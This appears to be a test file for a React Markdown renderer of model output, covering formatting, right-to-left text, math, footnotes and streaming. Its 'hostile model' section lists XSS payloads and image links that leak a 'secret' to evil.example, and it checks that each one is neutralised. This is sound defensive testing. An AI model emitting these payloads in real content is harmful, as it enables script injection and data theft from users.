import { afterEach, describe, expect, it, jest } from '@jest/globals';
import { act, cleanup, render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { Markdown } from './markdown.tsx';

const consoleError = jest.spyOn(console, 'error');
afterEach(() => {
  cleanup();
  // React reports doubled keys and unknown attributes here only.
  expect(consoleError).not.toHaveBeenCalled();
  consoleError.mockClear();
});

const show = (text: string) => render(<Markdown text={text} />).container;

describe('Markdown', () => {
  it('draws the constructs of CommonMark and GFM as elements', () => {
    const page = show(
      '# A\n\n**b** *c* ~~d~~ `e`\n\n1. f\n2. g\n\n> h\n\n| i | j |\n|--|--:|\n| 1 | 2 |\n\n---\n\n- [x] k',
    );
    expect(screen.getByRole('heading', { level: 3 }).textContent).toBe('A');
    for (const selector of [
      'strong',
      'em',
      'del',
      'p code',
      'ol li',
      'blockquote p',
      'table th',
      'td',
      'hr',
      'ul li',
    ]) {
      expect(page.querySelector(selector)).not.toBeNull();
    }
    expect(screen.getByRole('img', { name: 'Done' })).toBeTruthy();
  });

  it('starts an ordered list where it starts', () => {
    expect(show('3. c\n4. d').querySelector('ol')?.start).toBe(3);
  });

  it('keeps code left to right and lets each block find its direction', () => {
    const page = show('نص `a` هنا\n\n```js\nb\n```');
    expect(page.querySelector('p')?.dir).toBe('auto');
    expect(page.querySelector('p code')?.getAttribute('dir')).toBe('ltr');
    expect(page.querySelector('figure')?.dir).toBe('ltr');
  });

  it('asks each block for its direction once, since a nested question hides its text from the outer one', () => {
    const page = show('- أ\n\n  ب\n- ج\n\n> نص\n\n| أ |\n|---|\n| ب |\n\nد[^1]\n\n[^1]: ملاحظة');
    const asking = [...page.querySelectorAll('[dir=auto]')];
    expect(asking.map((element) => element.tagName)).toEqual(['UL', 'BLOCKQUOTE', 'TABLE', 'P', 'OL']);
    expect(page.querySelector('[dir=auto] [dir=auto]')).toBeNull();
  });

  it('takes prices for prices', () => {
    expect(show('It costs $5 to $10 a month.').textContent).toBe('It costs $5 to $10 a month.');
  });

  it('draws math once its renderer is there, without a style or a script in its way', async () => {
    const page = show('Here $\\frac{a}{b}$ and \\[x^2\\]');
    await act(async () => {
      await import('./math-markup.ts');
    });
    expect(page.querySelectorAll('math')).toHaveLength(2);
    expect(page.querySelector('mfrac')).not.toBeNull();
  });

  it('shows a formula that is wrong as its source', async () => {
    const page = show('$\\frac{a$');
    await act(async () => {
      await import('./math-markup.ts');
    });
    expect(page.textContent).toContain('\\frac{a');
  });

  it('links a footnote and its way back', () => {
    show('Text[^a].\n\n[^a]: The note.');
    const link = screen.getByRole('link', { name: 'Footnote 1' });
    const note = document.querySelector(`[id="${link.getAttribute('href')?.slice(1)}"]`);
    expect(note?.textContent).toContain('The note.');
    const back = within(note as HTMLElement).getByRole('link', { name: 'Back to text' });
    expect(document.querySelector(`[id="${back.getAttribute('href')?.slice(1)}"]`)).toBe(link);
  });

  it('nests what stands inside details, also across blocks', () => {
    const page = show('<details>\n<summary>More</summary>\n\n**inside**\n\n</details>\n\noutside');
    expect(page.querySelector('details > summary')?.textContent).toBe('More');
    expect(page.querySelector('details strong')?.textContent).toBe('inside');
    expect(page.querySelector('details')?.textContent).not.toContain('outside');
  });

  it('shows harmless inline tags', () => {
    const page = show('H<sub>2</sub>O<br>press <kbd>K</kbd>');
    expect(page.querySelector('sub')?.textContent).toBe('2');
    expect(page.querySelector('br')).not.toBeNull();
    expect(page.querySelector('kbd')?.textContent).toBe('K');
  });

  it('lets the host draw a fence and leaves the others to the kit', () => {
    const renderers = {
      fence: ({ language, code }: { language: string; code: string }) =>
        language === 'chart' ? <b>{code}</b> : undefined,
    };
    const { container } = render(<Markdown text={'```chart\n1,2\n```\n\n```js\nx\n```'} renderers={renderers} />);
    expect(container.querySelector('b')?.textContent).toBe('1,2');
    expect(container.querySelector('figure')?.textContent).toContain('x');
  });
});

describe('Markdown of a hostile model', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<kbd onmouseover="alert(1)">k</kbd>',
    '<details open ontoggle=alert(1)><summary>s</summary></details>',
    '<a href="javascript:alert(1)">a</a>',
    '<style>*{display:none}</style>',
    '<form action=//evil.example><input name=p></form>',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[a](vbscript:alert(1))',
    '[a](<java\tscript:alert(1)>)',
    '[a](&#106;avascript:alert(1))',
    '[a][r]\n\n[r]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![a](javascript:alert(1))',
    '![a](data:image/svg+xml,<svg onload=alert(1)>)',
    '![a](https://evil.example/?q=secret)',
    '![a](//evil.example/?q=secret)',
    '![a][r]\n\n[r]: https://evil.example/x.png',
    '$\\href{javascript:alert(1)}{x}$',
    '$\\includegraphics{https://evil.example/x.png}$',
    '$\\htmlStyle{background:url(https://evil.example)}{x}$',
    '```js" onload="alert(1)\nx\n```',
  ];
  const DANGEROUS_ATTRIBUTE = /^(?:on.*|src|srcdoc|srcset|action|formaction|xlink:href|background|poster)$/i;

  for (const streaming of [false, true]) {
    for (const payload of payloads) {
      it(`never becomes more than text and links: ${JSON.stringify(payload)}${streaming ? ', streaming' : ''}`, async () => {
        const { container } = render(<Markdown text={`before\n\n${payload}\n\nafter`} streaming={streaming} />);
        await act(async () => {
          await import('./math-markup.ts');
        });
        expect(
          container.querySelector('script, iframe, object, embed, form, input, style, link, meta, base, img'),
        ).toBeNull();
        for (const element of container.querySelectorAll('*')) {
          for (const { name, value } of element.attributes) {
            expect(name).not.toMatch(DANGEROUS_ATTRIBUTE);
            expect(value).not.toMatch(/javascript:|vbscript:|data:|evil\.example/i);
          }
        }
      });
    }
  }

  it('loads an image from elsewhere only when asked', async () => {
    const page = show('![a chart](https://images.example.org/x.png)');
    expect(page.querySelector('img')).toBeNull();
    await userEvent.click(screen.getByRole('button', { name: 'Load image from images.example.org' }));
    const image = page.querySelector('img');
    expect(image?.src).toBe('https://images.example.org/x.png');
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('shows an image of its own origin', () => {
    expect(show('![own](/files/1)').querySelector('img')?.getAttribute('src')).toBe('/files/1');
  });

  it('opens a foreign link in a new tab that knows nothing of this page', () => {
    const link = show('[a](https://example.org)').querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toContain('noopener');
  });
});

describe('Markdown while it streams', () => {
  const text = '# A\n\nSome **bold** text.\n\n```js\nconst a = 1;\n```\n\n- one\n- two\n\nend';

  it('ends as if it had come whole', () => {
    const { container, rerender } = render(<Markdown text="" streaming />);
    for (let until = 1; until < text.length; until += 3) rerender(<Markdown text={text.slice(0, until)} streaming />);
    rerender(<Markdown text={text} />);
    const whole = render(<Markdown text={text} />).container;
    const plain = (html: string) => html.replaceAll(/(?:id|aria-labelledby)="[^"]*"/g, '');
    expect(plain(container.innerHTML)).toBe(plain(whole.innerHTML));
  });

  it('completes what is half written', () => {
    const { container } = render(<Markdown text="Some **bo" streaming />);
    expect(container.querySelector('strong')?.textContent).toBe('bo');
  });

  it('keeps the elements of finished blocks', () => {
    const { container, rerender } = render(<Markdown text={'first\n\nsecond\n\nthi'} streaming />);
    const first = container.querySelector('p');
    rerender(<Markdown text={'first\n\nsecond\n\nthird\n\nfourth'} streaming />);
    expect(container.querySelector('p')).toBe(first);
  });

  it('keeps an open code block in place when it closes, and copies it mid-stream', async () => {
    const written = jest.fn<(text: string) => Promise<void>>().mockResolvedValue(undefined);
    const { container, rerender } = render(<Markdown text={'```js\nconst a'} streaming />);
    const block = container.querySelector('figure');
    const user = userEvent.setup();
    Object.defineProperty(navigator, 'clipboard', { value: { writeText: written }, configurable: true });
    await user.click(screen.getByRole('button', { name: 'Copy' }));
    expect(written).toHaveBeenCalledWith('const a');
    expect(await screen.findByRole('button', { name: 'Copied' })).toBeTruthy();
    rerender(<Markdown text={'```js\nconst a\n```\n\nend\n\nmore'} streaming />);
    expect(container.querySelector('figure')).toBe(block);
  });

  it('draws a long list that is still growing ten times a second, and its end at once', () => {
    jest.useFakeTimers();
    const list = Array.from({ length: 200 }, (_, item) => `- item number ${item} of a long list`).join('\n');
    const { container, rerender } = render(<Markdown text={list} streaming />);
    act(() => jest.advanceTimersByTime(100));
    const items = () => container.querySelectorAll('li').length;
    rerender(<Markdown text={`${list}\n- new`} streaming />);
    rerender(<Markdown text={`${list}\n- new\n- newer`} streaming />);
    expect(items()).toBe(200);
    act(() => jest.advanceTimersByTime(100));
    expect(items()).toBe(202);
    rerender(<Markdown text={`${list}\n- new\n- newer\n- newest`} />);
    expect(items()).toBe(203);
    jest.useRealTimers();
  });
});
